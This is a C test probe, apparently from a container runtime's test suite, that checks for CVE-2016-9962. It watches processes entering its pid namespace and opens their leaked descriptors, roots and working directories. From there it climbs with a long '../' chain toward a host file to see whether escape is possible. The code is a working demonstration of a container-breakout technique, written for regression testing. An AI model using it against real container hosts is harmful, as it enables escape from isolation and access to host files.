/* SPDX-License-Identifier: Apache-2.0 */
/*
 * peek.c - a container's root that waits for the runtime to come in (CVE-2016-9962).
 *
 *   peek SECONDS MARK
 *
 * Looks at every process that appears in its pid namespace, from the first moment: opens
 * each /proc/PID/fd/N, root and cwd, and from every directory it gets climbs up and
 * looks for the file MARK, a path below the host's root. At the end, in one line:
 *
 *   seen    processes
 *   opened  descriptors, roots and directories of theirs that could be opened
 *   kept    descriptors above 2 among them: the programs that the tests run have none
 *   host    directories on no mount of ours that have a parent
 *   mark    times that MARK could be read
 *
 * and before it a line for each of the last three kinds, up to a few.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define AHEAD  8 /* pids to look at beyond the highest seen */
#define BEHIND 6
#define FDS    24
#define CLIMB  "../../../../../../../../../../../../../../../../../../../../.."
#define MOUNTS 256

#define LINES_MAX 8 /* of a kind */

static struct {
	unsigned long seen, opened, kept, host, mark;
} count;

static unsigned long long ours[MOUNTS];
static size_t n_ours;

static void learn_mounts(void)
{
	FILE *f = fopen("/proc/self/mountinfo", "r");
	char line[8192];

	n_ours = 0;
	while (f && fgets(line, sizeof(line), f) && n_ours < MOUNTS)
		ours[n_ours++] = strtoull(line, NULL, 10);
	if (f)
		fclose(f);
}

static int is_on_our_mounts(int fd)
{
	struct statx stx;

	if (statx(fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &stx) < 0)
		return 0;
	for (size_t i = 0; i < n_ours; i++) {
		if (ours[i] == stx.stx_mnt_id)
			return 1;
	}
	return 0;
}

/* A detached clone has none: its root is its own parent. */
static int has_parent(int fd)
{
	struct stat here, up;

	return fstat(fd, &here) == 0 && fstatat(fd, "..", &up, 0) == 0 &&
	       (here.st_dev != up.st_dev || here.st_ino != up.st_ino);
}

static void say(const char *what, unsigned long number, const char *link)
{
	char target[4096];
	ssize_t n;

	if (number > LINES_MAX)
		return;
	n = readlink(link, target, sizeof(target) - 1);
	target[n < 0 ? 0 : n] = '\0';
	printf("%s %s %s\n", what, link, target);
}

static void look_from(int fd, const char *link, const char *mark)
{
	char path[4400];
	int mark_fd;

	snprintf(path, sizeof(path), CLIMB "/%s", mark);
	mark_fd = openat(fd, path, O_RDONLY | O_CLOEXEC);
	if (mark_fd >= 0) {
		say("mark", ++count.mark, link);
		close(mark_fd);
	}
	if (!is_on_our_mounts(fd) && has_parent(fd)) {
		say("host", ++count.host, link);
	}
}

static void try_link(const char *link, int number, const char *mark)
{
	int fd = open(link, O_PATH | O_CLOEXEC);
	struct stat st;

	if (fd < 0)
		return;
	count.opened++;
	if (number > 2)
		say("kept", ++count.kept, link);
	if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
		look_from(fd, link, mark);
	close(fd);
}

static void look_at(int pid, const char *mark)
{
	char link[64];

	for (int n = 3; n < FDS; n++) {
		snprintf(link, sizeof(link), "/proc/%d/fd/%d", pid, n);
		try_link(link, n, mark);
	}
	snprintf(link, sizeof(link), "/proc/%d/root", pid);
	try_link(link, -1, mark);
	snprintf(link, sizeof(link), "/proc/%d/cwd", pid);
	try_link(link, -1, mark);
	for (int n = 0; n < 3; n++) {
		snprintf(link, sizeof(link), "/proc/%d/fd/%d", pid, n);
		try_link(link, n, mark);
	}
}

int main(int argc, char **argv)
{
	struct timespec now, end;
	int highest, self = getpid();

	if (argc != 3) {
		fprintf(stderr, "usage: peek SECONDS MARK\n");
		return 2;
	}
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += strtol(argv[1], NULL, 10);
	learn_mounts();
	highest = self;
	puts("begun");
	fflush(stdout);
	do {
		for (int pid = highest - BEHIND; pid <= highest + AHEAD; pid++) {
			if (pid <= 1 || pid == self || kill(pid, 0) < 0)
				continue;
			if (pid > highest) {
				highest = pid;
				count.seen++;
			}
			look_at(pid, argv[2]);
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < end.tv_sec && access("/end", F_OK) < 0);
	printf("seen=%lu opened=%lu kept=%lu host=%lu mark=%lu\n", count.seen,
	       count.opened, count.kept, count.host, count.mark);
	return 0;
}
